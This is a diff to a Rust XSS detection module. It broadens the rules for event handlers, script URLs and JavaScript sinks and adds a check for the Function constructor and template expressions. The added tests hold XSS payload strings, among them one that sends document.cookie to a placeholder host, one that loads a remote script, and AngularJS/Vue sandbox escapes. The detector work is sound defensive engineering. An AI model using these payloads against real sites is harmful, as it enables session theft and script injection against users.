@@ -10,12 +10,14 @@
 //!   `frameset`, `object`, `embed`, `applet`, `base`, `import`, `portal`,
 //!   `isindex`, `vmlframe` (`link` and `style` load only style sheets); also as the tail of a tag name that holds a
 //!   `<` (`<scr<script>`, which a filter that strips tags turns into `<script>`);
-//! - **an event handler**: an attribute whose name starts with `on` and goes on with
-//!   a letter (`onerror`, `onload`, `onmouseover`, `ontoggle`, `onbegin`), given a
-//!   value; or an SVG animation's `attributeName` naming one;
+//! - **an event handler**: an attribute given a value whose name is a known event
+//!   (`onerror`, `onload`, `onmouseover`, `ontoggle`, `onbegin`, ...: `EVENTS`), or
+//!   any other `on` + letter name of five bytes or more whose value holds `(`, a
+//!   backtick or `=`; or an SVG animation's `attributeName` whose value starts
+//!   with `on`;
 //! - **a script URL** in a URL attribute (`href`, `src`, `action`, `formaction`,
 //!   `data`, `xlink:href`, `poster`, `background`, `codebase`, `lowsrc`, `dynsrc`,
-//!   `ping`, `cite`, `manifest`, `to`, `from`, `values`): after character
+//!   `ping`, `cite`, `manifest`, `to`, `from`, `values`, `by`): after character
 //!   references, white space and control bytes are removed, it starts with
 //!   `javascript:`, `vbscript:` or `livescript:` followed by code (a `(`, `=`,
 //!   backtick or `[`; `javascript:void(0)` does nothing), or with `data:text/html`
@@ -110,6 +112,9 @@ pub fn scan(input: &[u8]) -> Option<Finding> {
     if let Some(rule) = script_breakout(input) {
         return Some(Finding::new(Class::Xss, rule, whole));
     }
+    if let Some(rule) = function_constructor(input) {
+        return Some(Finding::new(Class::Xss, rule, whole));
+    }
     if !may_be_xss(input) {
         return None;
     }
@@ -132,6 +137,7 @@ pub(crate) fn may_match(input: &[u8]) -> bool {
     input.contains(&b':')
         || input.contains(&b'(')
         || input.contains(&b'[')
+        || input.contains(&b'`')
         || may_be_xss(input)
         || crate::text::find_ci(input, 0, b"document.").is_some()
         || crate::text::find_ci(input, 0, b"xmlhttprequest").is_some()
@@ -388,15 +394,39 @@ const JS_SINKS: &[&str] = &[
     "self[",
     "window[",
     "parent[",
+    "alert`",
+    "prompt`",
+    "confirm`",
+    "alert?.(",
+    "prompt?.(",
+    "confirm?.(",
+    "eval?.(",
+    "document.body",
+    "document.createelement",
+    "new image(",
+    "with(document)",
 ];
 
-/// A break out of a JavaScript string into code that runs: a quote, then
-/// punctuation that ends the string's expression (`;`, `)`, `-`, `+`, `}`, `,`,
-/// `//` or white space), then a sink (`alert(`, `eval(`, `document.cookie`, ...);
-/// or a closing `</script` followed by an opening one.
+/// A break out of a JavaScript string into code that runs: the first quote of its
+/// kind, then up to 8 bytes of punctuation that ends the string's expression (`;`,
+/// `)`, `-`, `+`, `}`, `,`, `/`, `*`, `|`, `&`, `=`, `(`, `[` or white space), then
+/// a sink (`alert(`, `eval(`, `document.cookie`, ...); or a sink that starts the
+/// value, which ends in `)`, `);` or `)//`.
 fn script_breakout(input: &[u8]) -> Option<&'static str> {
     static SINKS: LazyLock<Words> = LazyLock::new(|| Words::new(JS_SINKS));
-    for (_, at, _) in SINKS.find_all(input) {
+    for (_, at, end) in SINKS.find_all(input) {
+        // A tagged template call needs its argument and closing backtick right
+        // there (`` alert`1` ``): `` `alert` `` in prose is a name in code marks.
+        if input[end - 1] == b'`' {
+            let arg = input[end..]
+                .iter()
+                .take(32)
+                .take_while(|&&c| c != b'`' && !is_space(c))
+                .count();
+            if arg == 0 || input.get(end + arg) != Some(&b'`') {
+                continue;
+            }
+        }
         // Look back over the punctuation to a quote.
         let mut k = at;
         let mut punct = 0;
@@ -422,6 +452,7 @@ fn script_breakout(input: &[u8]) -> Option<&'static str> {
                     | b'='
                     | b'('
                     | b'['
+                    | b']'
             ) || is_space(c)
             {
                 punct += 1;
@@ -440,6 +471,31 @@ fn script_breakout(input: &[u8]) -> Option<&'static str> {
         {
             return Some("script call as the whole value");
         }
+    }
+    None
+}
+
+/// Code built from a string by the Function constructor, which template sandboxes
+/// (AngularJS, Vue) leave reachable: `''.constructor.constructor('alert(1)')()`
+/// anywhere, or `constructor` or `$eval` inside a client-side template's `{{ }}`.
+fn function_constructor(input: &[u8]) -> Option<&'static str> {
+    if crate::text::find_ci(input, 0, b"constructor.constructor(").is_some() {
+        return Some("Function constructor");
+    }
+    let mut from = 0;
+    while let Some(rel) = memchr::memmem::find(&input[from..], b"{{") {
+        let open = from + rel + 2;
+        let body = &input[open..(open + MAX_VALUE).min(input.len())];
+        let body = match memchr::memmem::find(body, b"}}") {
+            Some(end) => &body[..end],
+            None => body,
+        };
+        if crate::text::find_ci(body, 0, b"constructor(").is_some()
+            || crate::text::find_ci(body, 0, b"$eval").is_some()
+        {
+            return Some("client-side template expression that runs code");
+        }
+        from = open + body.len();
     }
     None
 }
@@ -593,6 +649,13 @@ mod tests {
             "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
             "<body onload=alert(1)>",
             "<a href=\"javascript&colon;alert(1)\">x</a>",
+            "\"];alert(1);//",
+            "'-confirm?.(document.domain)-'",
+            "\\\";prompt`1`;//",
+            "\"+new Image().src='//x.example/'+document.cookie+\"",
+            "'-document.body.appendChild(document.createElement('script')).src='//x.example/a.js'-'",
+            "{{$eval.constructor('alert(1)')()}}",
+            "<div v-html=\"''.constructor.constructor('alert(1)')()\"></div>",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -622,6 +685,10 @@ mod tests {
             "<svg viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5\" fill=\"#2e2\"/></svg>",
             "data:image/svg+xml;utf8,<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M1 1\"/></svg>",
             "I wrote:\n```python\nfor root, dirs, files in os.walk('exports'):\n    print(len(files))\n```",
+            "const el = document.createElement(\"div\"); document.body.appendChild(el);",
+            "Hello {{ user.name }}, you have {{ count }} messages",
+            "Use `alert` sparingly",
+            "img = \"a.png\"; const i = new Image(); i.src = img;",
         ] {
             assert!(!hit(s), "false positive: {s}: {:?}", scan(s.as_bytes()));
         }
